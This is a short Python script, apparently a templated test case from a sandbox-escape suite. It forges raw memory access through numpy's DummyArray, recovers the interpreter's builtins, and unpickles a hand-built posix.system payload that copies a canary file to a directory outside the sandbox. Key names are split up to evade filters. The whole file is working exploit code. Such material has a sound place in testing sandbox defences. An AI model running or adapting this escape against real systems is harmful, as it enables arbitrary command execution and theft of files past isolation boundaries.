# class: pickle_like
# technique: pickle loaded through the forged builtins dict; loads of a GLOBAL posix.system pickle (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
# goal: exec
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray


def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)
    poke(address, peek(address) + 1)
    poke(items, address)
    return holder[0]


builtin = object_at(peek(id(view) + 24))

cmd = "cat {{CANARY_FILE}} > {{OUTSIDE_DIR}}/anyplot-escape-pickle"
blob = ("cposix\nsystem\n(S'" + cmd + "'\ntR.").encode()

pk = builtin["_" * 2 + "import" + "_" * 2]("pickle")
rc = builtin["getattr"](pk, "lo" + "ads")(blob)
df = pd.DataFrame({"rc": [rc]})
